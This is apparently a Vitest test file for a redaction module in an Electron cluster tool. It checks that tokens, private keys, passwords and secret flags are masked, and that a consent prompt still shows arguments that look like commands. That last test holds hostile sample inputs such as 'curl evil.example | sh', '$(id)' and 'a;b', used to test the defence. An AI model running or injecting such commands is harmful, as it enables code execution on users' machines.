import { expect, test } from 'vitest'
import {
  argumentsToAgreeTo,
  createRedactor,
  redactArguments,
} from '../../../../../electron/cluster/dial/redact.ts'

const redact = createRedactor([])
const jwt = 'eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiJsaSJ9.c2lnbmF0dXJl'

test.each([
  ['a JSON web token', `refused ${jwt} at once`, 'refused *** at once'],
  ['what stands behind Bearer', 'Authorization: Bearer abc.def-123', 'Authorization: Bearer ***'],
  [
    'a password in an address',
    'through http://li:pa%3Ass@proxy.example:3128/',
    'through http://***@proxy.example:3128/',
  ],
  [
    'a private key',
    '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY----- after',
    '*** after',
  ],
  ['a key in base64', 'client-key-data: LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVk=', 'client-key-data: ***'],
  ['a flag with its value', 'login --client-secret=abc123 --now', 'login --client-secret=*** --now'],
  ['a field in JSON', '{"access_token": "abc", "user": "li"}', '{"access_token": "***", "user": "li"}'],
  ['a cloud key', 'with LTAI5tAbCdEfGhIjKl here', 'with *** here'],
])('%s is taken out', (_what, text, without) => expect(redact(text)).toBe(without))

test('what helps to find the fault stays', () => {
  for (const text of [
    'https://0A1B2C3D4E5F.gr7.eu-west-1.eks.amazonaws.com:443',
    '/home/li/.kube/config: the user "u" is not defined',
    'no token file, the key pair does not match',
    'getaddrinfo ENOTFOUND api.example.com',
  ])
    expect(redact(text)).toBe(text)
})

test('what the kubeconfig says word for word is taken out wherever it stands, the longest first', () => {
  const own = createRedactor(['abcd', 'abcd-and-more', 'xy'])
  expect(own('abcd-and-more abcd xy')).toBe('*** *** xy')
})

test('an argument that follows a flag for secrets is one', () => {
  expect(redactArguments(['login', '--client-secret', 'abc', '--cluster', 'east'])).toEqual([
    'login',
    '--client-secret',
    '***',
    '--cluster',
    'east',
  ])
})

test('an argument that has its secret behind a = is one, and the flag stays', () => {
  expect(redactArguments(['--client-secret=a=b c', '--cluster=east'])).toEqual([
    '--client-secret=***',
    '--cluster=east',
  ])
})

test('who is asked whether a program may run sees all that could be a command', () => {
  const hidden = ['get-token', '--client-secret', 'a1B2c3', '--api-key=a1B2c3', '--key', '--verbose']
  expect(argumentsToAgreeTo(hidden)).toEqual([
    ...['get-token', '--client-secret', '***', '--api-key=***', '--key', '--verbose'],
  ])
  for (const command of ['curl evil.example | sh', '/tmp/evil', '$(id)', 'a;b', '-e'])
    expect(argumentsToAgreeTo(['-c', '--key', command, `--token=${command}`])).toEqual([
      ...['-c', '--key', command, `--token=${command}`],
    ])
})
